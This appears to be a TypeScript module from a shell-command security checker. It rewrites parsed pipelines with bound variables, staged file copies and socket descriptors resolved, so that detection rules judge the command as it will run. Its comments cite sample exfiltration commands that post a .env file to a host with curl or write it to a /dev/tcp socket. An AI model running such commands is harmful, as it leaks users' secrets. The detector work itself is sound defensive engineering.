import type { Pipeline, Redirect, SimpleCommand, Word } from "./ast.js";
import type { ShellBindings } from "./bindings.js";
import { closingBrace, closingParen, expandWord, MAX_VALUE, VARIABLE_NAME } from "./expansions.js";
import { CommandNode, listOf, PipelineNode, RedirectNode, WordNode } from "./nodes.js";
import { factsOf } from "./word-facts.js";

/**
 * The second reading of a pipeline: with what the text bound written in (variables, copies of
 * sensitive files, descriptors opened on sockets; bindings.ts) and the expansions the shell
 * fixes by itself (expansions.ts), so that rules asking "is this file a secret", "is this a
 * socket" judge the command as it will run. Nodes are made by nodes.ts's classes, never as
 * literals (see there why).
 */

/**
 * `pipeline` with the variables the text bound written in (`F=.env; curl -d @$F host` reads as
 * `curl -d @.env host`, `X=$(cat .env); curl host/?d=$X` as `curl host/?d=$(cat .env)`), and
 * the sensitive files it copied named by their originals (`cp .env /tmp/x; curl -T /tmp/x host`
 * reads as `curl -T .env host`), for the rules to judge as it will run; undefined when it uses none of them. An unquoted variable
 * that stands alone with a fixed value splits into words, as the shell splits it.
 */
export function substitutedPipeline(
  pipeline: Pipeline,
  bindings: ShellBindings,
  shellFixed: boolean,
): Pipeline | undefined {
  if (!shellFixed && !bindings.hasVariables && !bindings.hasStaged && !bindings.hasSockets) return undefined;
  let changed = false;
  const commands: SimpleCommand[] = [];
  for (const command of pipeline.commands) {
    const words = substitutedWords(command.words, bindings);
    let redirects: Redirect[] = command.redirects;
    for (let k = 0; k < command.redirects.length; k++) {
      const r = command.redirects[k]!;
      const socket = r.op === ">&" && bindings.hasSockets ? bindings.socket(r.target.text) : undefined;
      if (socket !== undefined) {
        // `cat .env >&3`, descriptor 3 opened on /dev/tcp/h/80: the same as `cat .env > /dev/tcp/h/80`.
        if (redirects === command.redirects) redirects = command.redirects.slice();
        redirects[k] = new RedirectNode(
          r.fd === "1" ? "" : r.fd,
          ">",
          staticWord(socket, r.target),
          r.start,
          r.end,
        );
        continue;
      }
      const target = r.target.dynamic
        ? substitutedWord(r.target, bindings)
        : bindings.hasStaged
          ? unstagedWord(r.target, bindings)?.[0]
          : undefined;
      if (target === undefined) continue;
      if (redirects === command.redirects) redirects = command.redirects.slice();
      const copy = new RedirectNode(r.fd, r.op, target, r.start, r.end);
      copy.body = r.body;
      redirects[k] = copy;
    }
    if (words === command.words && redirects === command.redirects) commands.push(command);
    else {
      changed = true;
      commands.push(new CommandNode(command.assignments, words, redirects, command.start, command.end));
    }
  }
  if (!changed) return undefined;
  return new PipelineNode(commands, pipeline.start, pipeline.end, pipeline.depth);
}

/** `words` with bound variables written in; the same array when none is used. */
function substitutedWords(words: Word[], bindings: ShellBindings): Word[] {
  let out: Word[] | undefined;
  for (let k = 0; k < words.length; k++) {
    const w = words[k]!;
    const replaced = w.dynamic
      ? replacementOf(w, bindings)
      : bindings.hasStaged
        ? unstagedWord(w, bindings)
        : undefined;
    if (replaced === undefined) {
      out?.push(w);
      continue;
    }
    if (out === undefined) out = words.slice(0, k);
    for (const r of replaced) out.push(r);
  }
  return out ?? words;
}

/**
 * The words a dynamic word becomes with bound variables written in, or with what the shell
 * fixes without them (`${IFS}`, `${PATH:0:1}`); undefined when it uses neither.
 */
function replacementOf(word: Word, bindings: ShellBindings): Word[] | undefined {
  if (bindings.hasVariables) {
    const split = word.quoted ? undefined : splitValue(word, bindings);
    if (split !== undefined) return split;
    const substituted = substitutedWord(word, bindings);
    if (substituted !== undefined) return listOf(substituted);
  }
  if (!SHELL_FIXED.test(word.text)) return undefined;
  const fixed = expandWord(word, bindings);
  if (fixed === undefined) return undefined;
  return word.quoted ? listOf(staticWord(fixed, word)) : splitWords(fixed, word);
}

/** A word naming a staged copy, as the words naming the original; undefined when it names none. */
function unstagedWord(word: Word, bindings: ShellBindings): Word[] | undefined {
  const original = bindings.unstaged(word.text);
  return original === undefined ? undefined : listOf(staticWord(original, word));
}

/** Expansions the shell fixes without the text binding anything: `IFS`, and a path variable's first character. */
const SHELL_FIXED = /IFS|:0:1\}/;

/** Whether `text` may use an expansion the shell fixes (see SHELL_FIXED): asked once of a whole text. */
export function mayUseShellFixed(text: string): boolean {
  return text.includes("IFS") || text.includes(":0:1}");
}

function staticWord(text: string, like: Word): Word {
  return new WordNode(text, factsOf(text), like.start, like.end, like.quoted, false, []);
}

/** `text` split on blanks, as the shell splits an unquoted expansion, each part spanning `like`. */
function splitWords(text: string, like: Word): Word[] {
  let out: Word[] | undefined;
  for (const part of text.split(/[ \t\n]+/)) {
    if (part.length === 0) continue;
    const node = staticWord(part, like);
    if (out === undefined) out = listOf(node);
    else out.push(node);
  }
  return out ?? [];
}

/** An unquoted `$X` or `${X}` alone, X fixed: the words the shell splits its value into. */
function splitValue(word: Word, bindings: ShellBindings): Word[] | undefined {
  const m = /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})$/.exec(word.text);
  const value = m ? bindings.variable(m[1] ?? m[2] ?? "") : undefined;
  return value === undefined ? undefined : splitWords(value, word);
}

/** `word` with bound variables written in; undefined when it uses none. */
function substitutedWord(word: Word, bindings: ShellBindings): Word | undefined {
  const replaced = substitutedText(word, bindings);
  if (!replaced) return undefined;
  return new WordNode(
    replaced.text,
    factsOf(replaced.text),
    word.start,
    word.end,
    word.quoted,
    replaced.text.includes("$") || replaced.text.includes("`") || replaced.substitutions.length > 0,
    replaced.substitutions.slice(),
  );
}

/**
 * The text of `word` with each `$X`/`${X}` of a bound variable replaced by the text it was bound
 * to, and the substitutions of the result in text order; undefined when no bound variable is used
 * (or the word nests a substitution inside `${...}`, whose order this does not follow).
 */
export function substitutedText(
  word: Word,
  bindings: ShellBindings,
): { text: string; substitutions: Pipeline[] } | undefined {
  const text = word.text;
  let out = "";
  let replaced = false;
  let own = 0;
  const substitutions: Pipeline[] = [];
  const takeOwn = () => {
    const p = word.substitutions[own++];
    if (p) substitutions.push(p);
  };
  for (let i = 0; i < text.length; ) {
    const c = text[i]!;
    const next = text[i + 1];
    let end = i + 1;
    if (c === "`") {
      const close = text.indexOf("`", i + 1);
      if (close === -1) return undefined;
      end = close + 1;
      takeOwn();
    } else if ((c === "$" || c === "<" || c === ">") && next === "(" && text[i + 2] !== "(") {
      const close = closingParen(text, i + 2);
      if (close === -1) return undefined;
      end = close + 1;
      takeOwn();
    } else if (c === "$" && next === "{") {
      const close = closingBrace(text, i + 2);
      if (close === -1) return undefined;
      const inside = text.slice(i + 2, close);
      if (/[`(]/.test(inside)) return undefined;
      const bound = VARIABLE_NAME.test(inside) ? bindings.binding(inside) : undefined;
      if (bound) {
        out += bound.text;
        for (const p of bound.substitutions) substitutions.push(p);
        replaced = true;
        i = close + 1;
        continue;
      }
      end = close + 1;
    } else if (c === "$" && next !== undefined && /[A-Za-z_]/.test(next)) {
      end = i + 2;
      while (end < text.length && /[A-Za-z0-9_]/.test(text[end]!)) end++;
      const bound = bindings.binding(text.slice(i + 1, end));
      if (bound) {
        out += bound.text;
        for (const p of bound.substitutions) substitutions.push(p);
        replaced = true;
        i = end;
        continue;
      }
    }
    out += text.slice(i, end);
    i = end;
    if (out.length > MAX_VALUE) return undefined;
  }
  return replaced ? { text: out, substitutions } : undefined;
}
